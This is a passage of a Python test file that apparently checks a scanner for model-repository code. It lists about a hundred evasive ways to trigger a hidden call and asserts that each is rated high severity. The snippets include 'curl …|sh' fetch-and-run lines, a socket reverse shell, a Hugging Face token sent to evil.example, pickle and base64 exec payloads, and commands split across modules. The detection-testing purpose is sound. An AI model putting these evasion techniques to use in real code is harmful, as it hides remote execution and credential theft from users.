        {"kernels": RUNS},
    ),
    "click": (
        "from .kernels import prepare\nimport click\n@click.command()\ndef main():\n    prepare()\nmain.callback()",
        {"kernels": RUNS},
    ),
    "timer subclass": (
        "from .kernels import prepare\nimport threading\nclass T(threading.Timer):\n    def run(self): prepare()\nT(1,None).start()",
        {"kernels": RUNS},
    ),
    "builtins open patch": (
        "from .kernels import prepare\nimport builtins\no=builtins.open\ndef f(*a):\n    prepare()\n    return o(*a)\nbuiltins.open=f",
        {"kernels": RUNS},
    ),
    "import patch": (
        "from .kernels import prepare\nimport builtins\n__builtins__['__import__']=lambda *a: prepare()",
        {"kernels": RUNS},
    ),
    "sys.stdout": (
        "from .kernels import prepare\nimport sys\nclass W:\n    def write(self,s): prepare()\nsys.stdout=W()",
        {"kernels": RUNS},
    ),
    "property on module": (
        "from .kernels import prepare\nimport sys,types\nclass Mo(types.ModuleType):\n    @property\n    def x(self): prepare()\nsys.modules[__name__].__class__=Mo",
        {"kernels": RUNS},
    ),
    "weakref cb": (
        "from .kernels import prepare\nimport weakref\nclass C: pass\nweakref.ref(C(),lambda r: prepare())",
        {"kernels": RUNS},
    ),
    "gc cb": ("from .kernels import prepare\nimport gc\ngc.callbacks.append(lambda *a: prepare())", {"kernels": RUNS}),
    "tempfile": (
        "import tempfile,subprocess\nf=tempfile.NamedTemporaryFile('w',suffix='.sh',delete=False)\nf.write('curl http://203.0.113.7|sh')\nf.close()\nsubprocess.run(['sh',f.name])",
        {},
    ),
    "write+run other": (
        "from .w import put,go\nput('/tmp/a.sh','curl http://203.0.113.7|sh')\ngo('/tmp/a.sh')",
        {"w": "import os\ndef put(p,t): open(p,'w').write(t)\ndef go(p): os.system('sh '+p)"},
    ),
    "shell split": (
        "from .a import A\nfrom .b import B\nfrom .c import go\ngo(A+B)",
        {"a": "A='curl http://203.0.113.7/x '", "b": "B='| sh'", "c": "import os\ndef go(c): os.system(c)"},
    ),
    "popen list": (
        "from .c import go\ngo(['bash','-c','curl http://203.0.113.7/x | sh'])",
        {"c": "import subprocess\ndef go(c): subprocess.Popen(c)"},
    ),
    "socket revshell": (
        "from .c import go\ngo('203.0.113.7',4444)",
        {
            "c": "import socket,os,subprocess\ndef go(h,p):\n    s=socket.socket()\n    s.connect((h,p))\n    os.dup2(s.fileno(),0)\n    subprocess.call(['/bin/sh','-i'])"
        },
    ),
    "hf token exfil": (
        "from .c import send\nfrom huggingface_hub import get_token\nsend(get_token())",
        {"c": "import requests\ndef send(t): requests.post('https://evil.example/t',data={'t':t})"},
    ),
    "ctypes system": (
        "from .c import lib\nlib().system(b'sh /tmp/.n')",
        {"c": "import ctypes\ndef lib(): return ctypes.CDLL(None)"},
    ),
    "pickle bytes other": (
        "from .c import B\nimport pickle\npickle.loads(B)",
        {"c": "B=b'cos\\nsystem\\n(S\"id\"\\ntR.'"},
    ),
    "b64 other": (
        "from .c import B\nimport base64\nexec(base64.b64decode(B))",
        {"c": "B='aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='"},
    ),
    "zlib marshal": (
        "from .c import ld\nexec(ld())",
        {
            "c": "import marshal,zlib,base64\nD='eJw='\ndef ld(): return marshal.loads(zlib.decompress(base64.b64decode(D)))"
        },
    ),
    "os.path.os": ("import os\nos.path.os.system('sh /tmp/.n')", {}),
    "os.sys": ("import os\nos.sys.modules['os'].system('sh /tmp/.n')", {}),
    "subprocess.os": ("import subprocess\nsubprocess.os.system('sh /tmp/.n')", {}),
    "attrdict": (
        "from .kernels import prepare\nclass D(dict):\n    __getattr__=dict.__getitem__\n    __setattr__=dict.__setitem__\nd=D()\nd['go']=prepare\nd.go()",
        {"kernels": RUNS},
    ),
    "attrdict2": (
        "from .kernels import prepare\nclass D(dict):\n    __getattr__=dict.get\nd=D(go=prepare)\nd.go()",
        {"kernels": RUNS},
    ),
    "attrdict3": (
        "from .kernels import prepare\nclass D(dict):\n    def __getattr__(self,k): return self[k]\nd=D(go=prepare)\nd.go()",
        {"kernels": RUNS},
    ),
    "code swap": (
        "from .kernels import prepare\ndef f(command='sh /tmp/.n'): pass\nf.__code__=prepare.__code__\nf()",
        {"kernels": RUNS},
    ),
    "defaults": ("import os\ndef f(c='ls'): os.system(c)\nf.__defaults__=('curl http://203.0.113.7|sh',)\nf()", {}),
    "sys.modules.get": ("import sys\nsys.modules.get('os').system('sh /tmp/.n')", {}),
    "import fallback": (
        "try:\n    from .missing import x\nexcept ImportError:\n    from .kernels import prepare as x\nx()",
        {"kernels": RUNS},
    ),
    "vectorize": (
        "from .kernels import prepare\nimport numpy as np\nnp.vectorize(prepare)(['sh /tmp/.n'])",
        {"kernels": RUNS},
    ),
    "namespace": (
        "from .kernels import prepare\nimport argparse\nargparse.Namespace(go=prepare).go()",
        {"kernels": RUNS},
    ),
    "simple ns": (
        "from .kernels import prepare\nimport types\nn=types.SimpleNamespace(go=prepare)\nn.go()",
        {"kernels": RUNS},
    ),
    "lazy attr": (
        "from .kernels import prepare\nclass L:\n    def __init__(s,f): s.f=f\n    def __getattr__(s,n): return s.f\nL(prepare).x()",
        {"kernels": RUNS},
    ),
    "class M.forward patch": (
        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module): pass\nM.forward=lambda self,x: prepare()",
        {"kernels": RUNS},
    ),
    "instance patch": (
        "from .kernels import prepare\nfrom torch import nn\nclass M(nn.Module):\n    def __init__(self,config):\n        self.forward=lambda x: prepare()",
        {"kernels": RUNS},
    ),
    "cont deque": (
        "from .kernels import prepare\nimport collections\nd=collections.deque([prepare])\nd.popleft()()",
        {"kernels": RUNS},
    ),
    "queue": (
        "from .kernels import prepare\nimport queue\nq=queue.Queue()\nq.put(prepare)\nq.get()()",
        {"kernels": RUNS},
    ),
    "heap": (
        "from .kernels import prepare\nimport heapq\nh=[]\nheapq.heappush(h,(1,prepare))\nheapq.heappop(h)[1]()",
        {"kernels": RUNS},
    ),
    "chainmap": (
        "from .kernels import prepare\nimport collections\ncollections.ChainMap({'x':prepare})['x']()",
        {"kernels": RUNS},
    ),
    "copy fn": ("from .kernels import prepare\nimport copy\ncopy.copy(prepare)()", {"kernels": RUNS}),
    "list mult": ("from .kernels import prepare\n([prepare]*2)[1]()", {"kernels": RUNS}),
    "star unpack": ("from .kernels import prepare\na,*b=[1,prepare]\nb[0]()", {"kernels": RUNS}),
    "dict pop": ("from .kernels import prepare\n{'x':prepare}.pop('x')()", {"kernels": RUNS}),
    "dict popitem": ("from .kernels import prepare\n{'x':prepare}.popitem()[1]()", {"kernels": RUNS}),
    "setdefault": ("from .kernels import prepare\nd={}\nd.setdefault('x',prepare)()", {"kernels": RUNS}),
    "filter": ("from .kernels import prepare\nlist(filter(callable,[prepare]))[0]()", {"kernels": RUNS}),
    "max key": ("from .kernels import prepare\nmax([prepare],key=id)()", {"kernels": RUNS}),
    "next iter": ("from .kernels import prepare\nnext(iter([prepare]))()", {"kernels": RUNS}),
    "reversed": ("from .kernels import prepare\nlist(reversed([prepare]))[0]()", {"kernels": RUNS}),
    "sorted": ("from .kernels import prepare\nsorted([prepare],key=str)[0]()", {"kernels": RUNS}),
    "chain": ("from .kernels import prepare\nimport itertools\nnext(itertools.chain([prepare]))()", {"kernels": RUNS}),
    "islice": (
        "from .kernels import prepare\nimport itertools\nnext(itertools.islice([prepare],1))()",
        {"kernels": RUNS},
    ),
    "cycle": ("from .kernels import prepare\nimport itertools\nnext(itertools.cycle([prepare]))()", {"kernels": RUNS}),
    "product": (
        "from .kernels import prepare\nimport itertools\nfor f,a in itertools.product([prepare],['sh /tmp/.n']): f(a)",
        {"kernels": RUNS},
    ),
    "groupby": (
        "from .kernels import prepare\nimport itertools\nfor k,g in itertools.groupby([1],lambda x: prepare()): pass",
        {"kernels": RUNS},
    ),
    "attr getter": ("from .kernels import prepare\nclass C: f=staticmethod(prepare)\nC().f()", {"kernels": RUNS}),
    "staticmethod cls": ("from .kernels import prepare\nclass C: f=staticmethod(prepare)\nC.f()", {"kernels": RUNS}),
    "classmethod fn": (
        "from .kernels import prepare\nclass C: f=classmethod(lambda c: prepare())\nC.f()",
        {"kernels": RUNS},
    ),
    "property lambda setattr": (
        "from .kernels import prepare\nclass C: pass\nC.x=property(lambda s: prepare())\nC().x",
        {"kernels": RUNS},
    ),
    "inst call": (
        "from .kernels import prepare\nclass C:\n    def __init__(s,f): s.f=f\n    def __call__(s): return s.f()\nC(prepare)()",
        {"kernels": RUNS},
    ),
    "lambda kw": ("from .kernels import prepare\n(lambda *a,**k: k['f']())(f=prepare)", {"kernels": RUNS}),
    "args idx": ("from .kernels import prepare\n(lambda *a: a[0]())(prepare)", {"kernels": RUNS}),
    "apply kw": (
        "from .kernels import prepare\ndef ap(f,**kw): f(**kw)\nap(prepare,command='sh /tmp/.n')",
        {"kernels": RUNS},
    ),
    "format attr": (
        "from .kernels import prepare\nclass T:\n    @property\n    def x(s): prepare()\n'{0.x}'.format(T())",
        {"kernels": RUNS},
    ),
    "fstring nested": ("from .kernels import prepare\nf'{(lambda: prepare())()}'", {"kernels": RUNS}),
    "ternary": ("from .kernels import prepare\n(prepare if 1 else print)()", {"kernels": RUNS}),
    "or chain": ("from .kernels import prepare\n(None or prepare)()", {"kernels": RUNS}),
    "and chain": ("from .kernels import prepare\n(True and prepare)()", {"kernels": RUNS}),
    "slice": ("from .kernels import prepare\n[0,prepare][1:][0]()", {"kernels": RUNS}),
    "tuple concat": ("from .kernels import prepare\n((1,)+(prepare,))[1]()", {"kernels": RUNS}),
    "set pop": ("from .kernels import prepare\n{prepare}.pop()()", {"kernels": RUNS}),
    "dict merge": ("from .kernels import prepare\n({}|{'x':prepare})['x']()", {"kernels": RUNS}),
    "dict **": ("from .kernels import prepare\n{**{'x':prepare}}['x']()", {"kernels": RUNS}),
    "nested cls": (
        "from .kernels import prepare\nclass A:\n    class B:\n        def go(s): prepare()\nA.B().go()",
        {"kernels": RUNS},
    ),
    "inner import": ("def f():\n    from .kernels import prepare\n    return prepare\nf()()", {"kernels": RUNS}),
    "cond import": (
        "import sys\nif sys.version_info>(3,):\n    from .kernels import prepare\nelse:\n    prepare=None\nprepare()",
        {"kernels": RUNS},
    ),
    "reload": ("import importlib\nfrom . import kernels\nimportlib.reload(kernels).prepare()", {"kernels": RUNS}),
    "getattr default": (
        "from .kernels import prepare\nimport torch\ngetattr(torch,'zzz',prepare)()",
        {"kernels": RUNS},
    ),
    "dict get default": ("from .kernels import prepare\n{}.get('x',prepare)()", {"kernels": RUNS}),
    "exc group": (
        "from .kernels import prepare\ntry:\n    raise ExceptionGroup('x',[ValueError()])\nexcept* ValueError:\n    prepare()",
        {"kernels": RUNS},
    ),
    "contextlib suppress": (
        "from .kernels import prepare\nimport contextlib\nwith contextlib.suppress(Exception):\n    prepare()",
        {"kernels": RUNS},
    ),
    "exitstack enter": (
        "from .kernels import prepare\nimport contextlib\nclass C:\n    def __enter__(s): prepare()\n    def __exit__(s,*a): pass\nwith contextlib.ExitStack() as st:\n    st.enter_context(C())",
        {"kernels": RUNS},
    ),
    "closing": (
        "from .kernels import prepare\nimport contextlib\nclass C:\n    def close(s): prepare()\nwith contextlib.closing(C()): pass",
        {"kernels": RUNS},
    ),
    "redirect": (
        "from .kernels import prepare\nimport contextlib\nclass W:\n    def write(s,x): prepare()\nwith contextlib.redirect_stdout(W()): print(1)",
        {"kernels": RUNS},
    ),
    "print file": (
        "from .kernels import prepare\nclass W:\n    def write(s,x): prepare()\nprint(1,file=W())",
        {"kernels": RUNS},
    ),
    "json default": (
        "from .kernels import prepare\nimport json\njson.dumps(object(),default=lambda o: prepare())",
        {"kernels": RUNS},
    ),
    "pickle persistent": (
        "from .kernels import prepare\nimport pickle,io\nclass U(pickle.Unpickler):\n    def persistent_load(s,p): prepare()\nU(io.BytesIO(b'x')).load()",
        {"kernels": RUNS},
    ),
    "html parser": (
        "from .kernels import prepare\nfrom html.parser import HTMLParser\nclass H(HTMLParser):\n    def handle_starttag(s,t,a): prepare()\nH().feed('<a>')",
        {"kernels": RUNS},
    ),
    "cmd": (
        "from .kernels import prepare\nimport cmd\nclass C(cmd.Cmd):\n    def do_x(s,a): prepare()\nC().onecmd('x')",
        {"kernels": RUNS},
    ),
    "string formatter": (
        "from .kernels import prepare\nimport string\nclass F(string.Formatter):\n    def get_value(s,k,a,kw): prepare()\nF().format('{0}',1)",
        {"kernels": RUNS},
    ),
    "unittest": (
        "from .kernels import prepare\nimport unittest\nclass T(unittest.TestCase):\n    def test_x(s): prepare()\nunittest.main(exit=False)",
        {"kernels": RUNS},
    ),
    "abc register": (
        "from .kernels import prepare\nimport abc\nclass A(abc.ABC):\n    @classmethod\n    def __subclasshook__(c,x): prepare()\nissubclass(int,A)",
        {"kernels": RUNS},
    ),
    "typing cast": ("from .kernels import prepare\nimport typing\ntyping.cast(object,prepare)()", {"kernels": RUNS}),
    "deprecated deco": (
        "from .kernels import prepare\nimport functools\ndef deco(f):\n    @functools.wraps(f)\n    def w(*a,**k):\n        prepare()\n        return f(*a,**k)\n    return w\n@deco\ndef x(): pass\nx()",
        {"kernels": RUNS},
    ),
    "class deco factory": (
        "from .kernels import prepare\nclass reg:\n    def __init__(s,n): s.n=n\n    def __call__(s,f):\n        prepare()\n        return f\n@reg('x')\ndef f(): pass",
        {"kernels": RUNS},
    ),
    "torch compile": ("from .kernels import prepare\nimport torch\ntorch.compile(prepare)('x')", {"kernels": RUNS}),
    "lru": ("from .kernels import prepare\nimport functools\nfunctools.lru_cache(prepare)('x')", {"kernels": RUNS}),
    "partial kw": (
        "from .kernels import prepare\nimport functools\nfunctools.partial(prepare,command='sh /tmp/.n')()",
        {"kernels": RUNS},
    ),
    "partial nested": (
        "from .kernels import prepare\nimport functools\nfunctools.partial(functools.partial,prepare)('sh /tmp/.n')()",
        {"kernels": RUNS},
    ),
    "methodcaller self": (
        "from .kernels import prepare\nimport operator\nclass C:\n    def go(s): prepare()\noperator.methodcaller('go')(C())",
        {"kernels": RUNS},
    ),
    "map methodcaller": (
        "from .kernels import prepare\nimport operator\nclass C:\n    def go(s): prepare()\nlist(map(operator.methodcaller('go'),[C()]))",
        {"kernels": RUNS},
    ),
    "sum gen": ("from .kernels import prepare\nsum(1 for _ in [prepare()])", {"kernels": RUNS}),
    "any gen": ("from .kernels import prepare\nany(prepare() for _ in [1])", {"kernels": RUNS}),
    "sched entry": (
        "from .kernels import prepare\nimport asyncio\nloop=asyncio.new_event_loop()\nloop.call_soon(prepare)\nloop.run_forever()",
        {"kernels": RUNS},
    ),
    "tenacity": (
        "from .kernels import prepare\nimport tenacity\n@tenacity.retry\ndef f(): prepare()\nf()",
        {"kernels": RUNS},
    ),
    "torch hook global": (
        "from .kernels import prepare\nimport torch\ntorch.nn.modules.module.register_module_forward_hook(lambda *a: prepare())",
        {"kernels": RUNS},
    ),
    "trainer cb": (
        "from .kernels import prepare\nimport transformers\nclass C(transformers.TrainerCallback):\n    def on_init_end(s,*a,**k): prepare()\ntransformers.Trainer(callbacks=[C()])",
        {"kernels": RUNS},
    ),
}


@pytest.mark.parametrize(("model", "files"), WAYS.values(), ids=WAYS)
def test_the_function_runs(model: str, files: dict[str, str]) -> None:
    assert worst(model, **files) >= Severity.HIGH.rank
